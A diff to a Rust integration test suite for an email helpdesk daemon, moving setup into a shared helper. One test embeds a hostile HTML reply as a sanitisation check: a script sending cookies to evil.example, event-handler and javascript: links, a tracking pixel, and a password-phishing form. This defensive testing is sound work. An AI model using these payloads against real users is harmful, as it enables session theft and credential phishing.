@@ -8,7 +8,7 @@ use base64::Engine as _;
 use mail_parser::{MessageParser, MimeHeaders};
 
 use crate::agents::{customer_writes, with_agents};
-use crate::daemon::{Setup, header, parsed};
+use crate::daemon::{Daemon, Setup, header, parsed};
 use crate::harness::{Lab, message};
 
 const WAIT: Duration = Duration::from_secs(30);
@@ -16,16 +16,18 @@ const WAIT: Duration = Duration::from_secs(30);
 /// The bytes of a 1×1 PNG: what a pasted screenshot is, for the mail's purposes.
 const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\0\x05\0\x01\xff\x89\x99=\x1d\0\0\0\0IEND\xaeB`\x82";
 
-/// A customer writes; returns the ticket number and agent1's notification.
-async fn ticket(lab: &Lab, setup: &Setup) -> (i64, Vec<u8>) {
-    let notification = customer_writes(lab, "Printer on fire", "m1@customer.test", 1).await;
+/// The lab, the daemon with two agents, and a ticket: agent1's notification and its signed
+/// reply address. `None` without DESKGATE_IT.
+async fn desk() -> Option<(Lab, Setup, Daemon, Vec<u8>, String)> {
+    let lab = Lab::start()?;
+    let setup = with_agents(&lab);
+    let daemon = setup.start();
+    let notification = customer_writes(&lab, "Printer on fire", "m1@customer.test", 1).await;
     lab.wait_for("customer1", "INBOX", 1, WAIT).await;
-    let number = setup.json(&["tickets"])[0]["id"]
-        .as_i64()
-        .expect("ticket id");
+    let reply_to = parsed(&notification).reply_to.expect("Reply-To").address;
     // The answer's Date (whole seconds) comes after the ticket's creation.
     tokio::time::sleep(Duration::from_millis(1100)).await;
-    (number, notification)
+    Some((lab, setup, daemon, notification, reply_to))
 }
 
 /// One part of a MIME body: headers and already encoded content.
@@ -179,11 +181,9 @@ fn assert_nothing_of_ours(raw: &[u8], html: &str, text: &str) {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn outlook_and_gmail_html_answers_reach_the_customer_as_html() {
-    let Some(lab) = Lab::start() else { return };
-    let setup = with_agents(&lab);
-    let daemon = setup.start();
-    let (_, notification) = ticket(&lab, &setup).await;
-    let reply_to = parsed(&notification).reply_to.expect("Reply-To").address;
+    let Some((lab, _setup, daemon, notification, reply_to)) = desk().await else {
+        return;
+    };
 
     // Outlook for Windows: Word HTML, a pasted screenshot, the border-top header block.
     let outlook = format!(
@@ -284,11 +284,9 @@ async fn outlook_and_gmail_html_answers_reach_the_customer_as_html() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_hostile_html_answer_reaches_the_customer_harmless() {
-    let Some(lab) = Lab::start() else { return };
-    let setup = with_agents(&lab);
-    let daemon = setup.start();
-    let (_, notification) = ticket(&lab, &setup).await;
-    let reply_to = parsed(&notification).reply_to.expect("Reply-To").address;
+    let Some((lab, _setup, daemon, notification, reply_to)) = desk().await else {
+        return;
+    };
     let hostile = format!(
         r#"<div>Your refund is approved.<script>fetch('https://evil.example/?c='+document.cookie)</script></div><img src="cid:shot@x" onerror="alert(1)"><img src="http://tracker.example/pixel.gif?u=mona"><a href="javascript:alert(2)">details</a><form action="https://evil.example/collect" method="post">Password: <input name="password" type="password"><button>Confirm</button></form><blockquote type="cite">{}</blockquote>"#,
         quoted_html(&notification)
@@ -426,11 +424,9 @@ async fn a_customers_html_and_winmail_dat_reach_the_agents_as_sent() {
 
 #[tokio::test(flavor = "multi_thread")]
 async fn a_bottom_posted_answer_is_relayed_and_an_empty_one_told() {
-    let Some(lab) = Lab::start() else { return };
-    let setup = with_agents(&lab);
-    let daemon = setup.start();
-    let (_, notification) = ticket(&lab, &setup).await;
-    let reply_to = parsed(&notification).reply_to.expect("Reply-To").address;
+    let Some((lab, _setup, daemon, notification, reply_to)) = desk().await else {
+        return;
+    };
     let quoted: String = parsed(&notification)
         .text
         .lines()
